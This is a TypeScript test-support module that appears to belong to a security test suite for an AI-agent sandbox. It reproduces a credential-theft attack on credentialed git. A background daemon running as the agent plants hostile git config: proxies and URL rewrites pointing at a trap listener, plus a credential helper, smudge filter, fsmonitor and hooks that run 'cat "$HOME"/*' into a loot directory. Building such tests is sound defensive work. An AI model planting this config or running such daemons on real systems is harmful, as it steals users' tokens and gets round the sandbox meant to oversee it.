import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { RunningCommand, SandboxHandle, SandboxHost } from '../../domain/ports/sandboxHost';

/**
 * The attack on credentialed git from issue 14: the agent (or a daemon an earlier step left behind) writes
 * the config of the repository a credential process is working on, while it works. What it plants would
 * route the request through the agent's listener (proxy, URL rewrite) or run the agent's code in the
 * credential process (helper, filter, fsmonitor, hook), which copies everything in $HOME (where the
 * channel keeps the token) into a loot directory in the workspace.
 */

/** A listener standing for the agent's proxy: it records every request and asks for Basic credentials. */
export interface Trap {
  readonly url: string;
  readonly seen: string[];
  close(): Promise<void>;
}

export async function startTrap(): Promise<Trap> {
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    seen.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''} ${req.headers['proxy-authorization'] ?? ''}`);
    req.resume();
    res.writeHead(401, { 'www-authenticate': 'Basic realm="trap"' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/**
 * The config a hostile writer adds to `$1` (a `.git` directory), as a POSIX sh function: `proxy` only the
 * proxies (the attack as reproduced: the token reached the agent's proxy), `all` also a URL rewrite and
 * code that would run in the credential process.
 */
function plantFunction(trap: string, origin: string, loot: string, forms: 'proxy' | 'all'): string {
  const proxies = `[remote "origin"]
	proxy = ${trap}
[http]
	proxy = ${trap}
[http "${origin}/"]
	proxy = ${trap}`;
  if (forms === 'proxy') return `plant() {\n  cat >> "$1/config" <<'CONFIG'\n${proxies}\nCONFIG\n}`;
  const steal = `cat \\"$HOME\\"/* > ${loot}/$1-$$ 2>&1`;
  return `plant() {
  cat >> "$1/config" <<'CONFIG'
${proxies}
[url "${trap}/"]
	insteadOf = ${origin}/
[credential]
	helper = "!f() { ${steal.replace('$1', 'helper')}; }; f"
[filter "steal"]
	smudge = "${steal.replace('$1', 'filter')}; cat"
[core]
	fsmonitor = "${steal.replace('$1', 'fsmonitor')}"
	hooksPath = .git/hooks
CONFIG
  mkdir -p "$1/info" "$1/hooks"
  echo '* filter=steal' > "$1/info/attributes"
  for hook in post-checkout reference-transaction pre-push post-merge; do
    printf '#!/bin/sh\\ncat "$HOME"/* > ${loot}/hook-%s-$$ 2>&1\\n' "$hook" > "$1/hooks/$hook"
    chmod +x "$1/hooks/$hook"
  done
}`;
}

/** A loot directory and a signals directory in the workspace that every uid of the sandbox may write. */
export function attackDirs(workspace: string, name: string): { loot: string; signals: string } {
  const loot = path.join(workspace, `${name}-loot`);
  const signals = path.join(workspace, `${name}-signals`);
  for (const dir of [loot, signals]) {
    mkdirSync(dir);
    chmodSync(dir, 0o777);
  }
  return { loot, signals };
}

export interface Planter {
  stop(): Promise<void>;
}

/**
 * A daemon in the sandbox, as the agent, started before the credentialed step: it plants into every
 * `.git` under the workspace it can reach whose path matches `pattern` and has not been planted yet. With
 * `signals`, it plants once, when the file `go` appears there, and then touches `done` (the git server holds
 * the client meanwhile: deterministic); without, it races in a loop.
 */
export async function startPlanter(
  host: SandboxHost,
  sandbox: SandboxHandle,
  options: { trap: string; origin: string; loot: string; pattern: string; signals?: string; forms: 'proxy' | 'all' },
): Promise<Planter> {
  const { trap, origin, loot, pattern, signals, forms } = options;
  const sweep = `for git in ${pattern}; do [ -f "$git/config" ] || continue; grep -q '${trap}' "$git/config" 2>/dev/null && continue; plant "$git"; done`;
  const script = signals
    ? `${plantFunction(trap, origin, loot, forms)}\nwhile [ ! -e ${signals}/go ]; do sleep 0.01; done\n${sweep}\ntouch ${signals}/done\nsleep 3600`
    : `${plantFunction(trap, origin, loot, forms)}\nwhile :; do ${sweep}; done`;
  const process: RunningCommand = await host.start(sandbox, { argv: ['sh', '-c', script], identity: 'agent' });
  return { stop: async () => void (await process.stop()) };
}

/**
 * Holds the calling git client inside the server's request handler until the planter says it is done (or
 * `timeoutMs` passed): the repository exists and git is waiting for the server, so the plant lands before
 * anything that follows the first request. Blocks this process's event loop briefly, on purpose.
 */
export function holdUntilPlanted(signals: string, timeoutMs = 5000): void {
  writeFileSync(path.join(signals, 'go'), '');
  const cell = new Int32Array(new SharedArrayBuffer(4));
  const until = Date.now() + timeoutMs;
  while (!existsSync(path.join(signals, 'done')) && Date.now() < until) Atomics.wait(cell, 0, 0, 10);
}

/** What the hostile code managed to copy out (file names and whether any holds `token`). */
export function lootHolding(loot: string, token: string): string[] {
  if (!existsSync(loot)) return [];
  return readdirSync(loot).filter((f) => readFileSync(path.join(loot, f), 'utf8').includes(token));
}
